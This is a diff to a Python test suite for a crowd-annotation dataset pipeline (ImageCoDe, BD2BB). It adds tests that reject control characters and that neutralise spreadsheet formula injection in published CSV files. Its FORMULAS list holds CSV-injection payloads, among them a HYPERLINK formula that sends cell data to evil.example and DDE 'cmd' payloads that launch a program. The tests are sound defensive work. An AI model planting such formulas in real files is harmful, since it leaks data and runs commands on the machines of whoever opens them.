@@ -320,6 +320,13 @@ VALUE_CASES = (
                  "nested too deeply"),
     HostileValue("int-of-5000-digits", lambda r, t, n: b'{"x": 1' + b"0" * 5000 + b"}", reasons.BAD_JSON,
                  "not JSON"),
+    # legal JSON escapes of control characters, published as they came (issue 35)
+    HostileValue("nul", lambda r, t, n: _dumps({**r, t: f"{r.get(t, '')}\x00 more"}),
+                 reasons.CONTROL_CHARACTER, "field '{t}' holds the control character U+0000"),
+    HostileValue("escape-character", lambda r, t, n: _dumps({**r, t: f"\x1b[2J{r.get(t, '')}"}),
+                 reasons.CONTROL_CHARACTER, "field '{t}' holds the control character U+001B at character 1"),
+    HostileValue("c1-control", lambda r, t, n: _dumps({**r, "note": "x\x85"}),
+                 reasons.CONTROL_CHARACTER, "field 'note' holds the control character U+0085"),
 )
 
 
@@ -432,6 +439,12 @@ DOCUMENT_CASES = [
     ("fg-inputs.captions", "latin-1", _fg_captions('["caf\u00e9", "b", "c", "d", "e"]'.encode("latin-1")),
      "byte 0xe9 at offset"),
     ("fg-inputs.captions", "not-json", b'{"COCO_val2014_000000000001": [', "not JSON"),
+    ("vsr-inputs.coco", "nul", _coco(_dumps({**_COCO_IMAGE, "file_name": "000000000002.jpg\x00"})),
+     ("image", reasons.BAD_COCO_RECORD, "field 'file_name' holds the control character U+0000")),
+    ("bd2bb-inputs.captions", "nul", _bd2bb_captions(_dumps({"image_id": 2, "caption": "a dog\x00"})),
+     "field 'annotations[1].caption' holds the control character U+0000"),
+    ("fg-inputs.captions", "nul", _fg_captions(_dumps(["a dog\x00"] + _FIVE[1:])),
+     "field 'COCO_val2014_000000000002[0]' holds the control character U+0000"),
 ]
 
 
@@ -533,3 +546,103 @@ def test_a_vote_list_held_as_a_string_is_decoded_under_the_same_rules():
         reasons.BAD_FIELD, "vote lists: field '[1]' holds a lone UTF-16 surrogate (\\ud83d): not text")
     assert parse({**record, "vote_false_validator_id": "[" * 5000 + "]" * 5000}) == (
         reasons.BAD_FIELD, "vote lists: not JSON: nested too deeply")
+
+
+# --- 4. free text that a spreadsheet would run, and control characters in CSV cells (issue 35)
+#
+# Every CSV a release holds is written by transforms/io/csv_out.py. Where its text may
+# be changed, a cell that begins like a formula gets a leading quote (ImageCoDe's crowd
+# task files, BD2BB's review sheet); where the original loaders read it verbatim (BD2BB's
+# compat/*.csv) such text is rejected at ingest (formula_text). A control character in a
+# crowd answer cell is a reject wherever the row comes from (JSON inputs: VALUE_CASES).
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "+cmd|' /C calc'!A0",
+            "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+
+
+def _retrieve_task_csv(text: str) -> List[str]:
+    """The cells of ImageCoDe's crowd/retrieve_tasks.csv row for a description `text`,
+    and the JSON Lines row beside it, as WriteTaskFiles writes them."""
+    import csv
+    import io
+
+    from pipelines.imagecode.rounds_schema import RETRIEVE_TASK_COLUMNS
+    from transforms.crowd.task_files import task_lines
+    task = {c: f"{c}-value" for c in RETRIEVE_TASK_COLUMNS}
+    task.update(text=text, is_video=False, assignments=["w1", "w2"], shown_order=[1, 0])
+    lines = task_lines("retrieve_tasks.csv", [task], RETRIEVE_TASK_COLUMNS)
+    row = dict(zip(*csv.reader(io.StringIO("\n".join(lines) + "\n"))))
+    jsonl = json.loads(task_lines("retrieve_tasks.jsonl", [task], RETRIEVE_TASK_COLUMNS)[0])
+    return [row["text"], jsonl["text"], row["is_video"], row["assignments"]]
+
+
+def _bd2bb_tuple(field: str, text: str):
+    from pipelines.bd2bb.inputs import parse_tuple_line
+    return parse_tuple_line(json.dumps({"image": "COCO_train2014_000000000001.jpg",
+                                        "intention": "want to relax", "action": "sit on the bench",
+                                        field: text}))
+
+
+def _bd2bb_review_sheet(text: str) -> List[str]:
+    import csv
+    import io
+
+    from pipelines.bd2bb.clustering import REVIEW_HEADER
+    from transforms.io.csv_out import csv_text
+    sheet = csv_text(REVIEW_HEADER, [[3, 12, "key", text, "label", "f00d"]])
+    return list(csv.DictReader(io.StringIO(sheet)))[0]["action"]
+
+
+def _csv_answer_row(cell: str):
+    """What the crowd answer stage does with a CSV row whose description cell is `cell`
+    (ImageCoDe's descriptions; every crowd round reads rows this way)."""
+    from transforms.crowd.answer_files import AnswerRow
+    from transforms.crowd.answer_rows import _CheckRowFn
+    check = _CheckRowFn("describe", ("set_name", "text"), lambda row, context: ("k", row), lambda *_: {})
+    row = AnswerRow("/in/descriptions.csv", 7, {"set_name": "s1", "text": cell, "worker": "w1"})
+    return [(getattr(out, "value", out).reason, getattr(out, "value", out).detail)
+            if hasattr(out, "tag") else "passed" for out in check.process(row)]
+
+
+@pytest.mark.parametrize("formula", FORMULAS, ids=["equals", "plus", "at", "minus", "tab", "cr"])
+@pytest.mark.parametrize("where", ["imagecode-retrieve-tasks-csv", "bd2bb-intention", "bd2bb-action",
+                                   "bd2bb-review-sheet", "bd2bb-compat-csv"])
+def test_text_a_spreadsheet_would_run_is_neutralised_or_rejected(where, formula):
+    """Issue 35: a BD2BB intention `=HYPERLINK(...)` passed every filter into compat/*.csv;
+    ImageCoDe descriptions beginning with `=`, `+` or `@` went verbatim into
+    crowd/retrieve_tasks.csv, which requesters open in a spreadsheet."""
+    if where == "imagecode-retrieve-tasks-csv":   # the JSON Lines file keeps the text
+        assert _retrieve_task_csv(formula) == ["'" + formula, formula, "false", '["w1", "w2"]']
+        assert _retrieve_task_csv("A dog, left.")[0] == "A dog, left."   # other cells as they were
+    elif where in ("bd2bb-intention", "bd2bb-action"):
+        field = where.split("-")[1]
+        problem = _bd2bb_tuple(field, "  " + formula)   # texts are stripped before publishing
+        assert problem == (reasons.FORMULA_TEXT, f"field '{field}' begins with {formula.strip()[:1]!r}: "
+                           "a spreadsheet opening the CSV it is published in would run it as a "
+                           "formula"), problem
+        kept = _bd2bb_tuple(field, "want to relax - and " + formula)   # only a text's start counts
+        assert getattr(kept, field) == "want to relax - and " + formula.rstrip("\r"), kept
+    elif where == "bd2bb-review-sheet":
+        assert _bd2bb_review_sheet(formula) == "'" + formula
+    else:   # a formula that reached compat/ would be a bug of the ingest: never written
+        from pipelines.bd2bb.compat import HEADER, csv_text
+        row = {c: "targ" if c.startswith("end") and c.endswith("type") else "text" for c in HEADER}
+        assert csv_text([row]).splitlines()[1].startswith("text,")
+        with pytest.raises(ValueError, match="its ingest must reject such text"):
+            csv_text([{**row, "sent1": formula}])
+
+
+@pytest.mark.parametrize("cell, passed", [("A dog\x00 on the left.", False), ("\x07A dog.", False),
+                                          ("A dog\x9b on the left.", False), ("A dog\ton the left.", True),
+                                          ("A dog,\non the left.", True), ("=1+1", True)])
+def test_a_control_character_in_a_csv_answer_cell_is_a_reject_naming_the_column(cell, passed):
+    """NUL went into crowd/retrieve_tasks.csv; a raw NUL is legal in a CSV cell. Tab and
+    line breaks are text (quoted in CSV); a formula start is neutralised where written."""
+    found = _csv_answer_row(cell)
+    if passed:
+        assert found == ["passed"], found
+    else:
+        code = {"\x00": "0000", "\x07": "0007", "\x9b": "009B"}[next(c for c in cell if c in "\x00\x07\x9b")]
+        assert len(found) == 1 and found[0][0] == reasons.CONTROL_CHARACTER, found
+        assert found[0][1].startswith(f"column 'text' holds the control character U+{code}"), found
+        assert not any(c in found[0][1] for c in "\x00\x07\x9b")
